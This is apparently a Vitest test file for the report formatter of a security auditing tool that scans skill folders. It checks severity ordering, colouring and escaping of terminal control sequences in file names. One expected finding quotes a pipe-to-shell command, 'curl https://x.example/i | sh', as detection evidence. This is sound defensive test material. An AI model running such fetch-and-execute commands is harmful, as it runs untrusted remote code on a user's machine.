import { expect, test } from "vitest";
import { sampleAudit } from "../../../test/builders/sample-audit.ts";
import { auditText } from "./audit-text.ts";

test("skills come with the worst first, each finding on a line with rule, place and evidence", () => {
  expect(auditText(sampleAudit, false)).toBe(`helper  risk high  complete  skills/helper, 4 files
  high    AUD121 pipe-to-shell  SKILL.md:12     curl https://x.example/i | sh
  medium  AUD180 opaque-binary  bin/a tool#.so  bin/a tool#.so
  and 2 more findings of the same rules

other  risk info  incomplete  /opt/other, 1 file
  info  AUD199 not-examined  .  more than 10000 files

no findings  skills/clean

3 skills audited: 1 high, 1 medium, 1 info, 2 more not listed; some content could not be scanned (incomplete)
failed: worst severity is high (--fail-on high)
No findings does not mean safe: rules only find known patterns.
`);
});

test("without findings it still says that this is not safe", () => {
  const skills = sampleAudit.skills.slice(2);
  const counts = { critical: 0, high: 0, medium: 0, low: 0, info: 0 };

  const text = auditText(
    { ...sampleAudit, skills, counts, status: "complete", risk: null, exitCode: 0 },
    false,
  );

  expect(text).toBe(`no findings  skills/clean

1 skill audited: no findings
passed: no findings at high or above
No findings does not mean safe: rules only find known patterns.
`);
});

test("on a terminal severities are coloured", () => {
  const text = auditText(sampleAudit, true);

  expect(text).toContain("  \u001b[31mhigh\u001b[39m    AUD121 pipe-to-shell");
  expect(text).toContain("  \u001b[33mmedium\u001b[39m  AUD180 opaque-binary");
});

test("a name cannot move the cursor or draw a line of its own", () => {
  const [skill] = sampleAudit.skills;
  const findings = skill?.findings.map((finding) => ({ ...finding, file: "a\n\u001b[2Jb.md" })) ?? [];
  const skills = [{ ...skill, folder: "x\ny", findings } as never];

  const text = auditText({ ...sampleAudit, skills }, false);

  expect(text).toContain("a\\n\\e[2Jb.md:12");
  expect(text).toContain("x\\ny, 4 files");
});
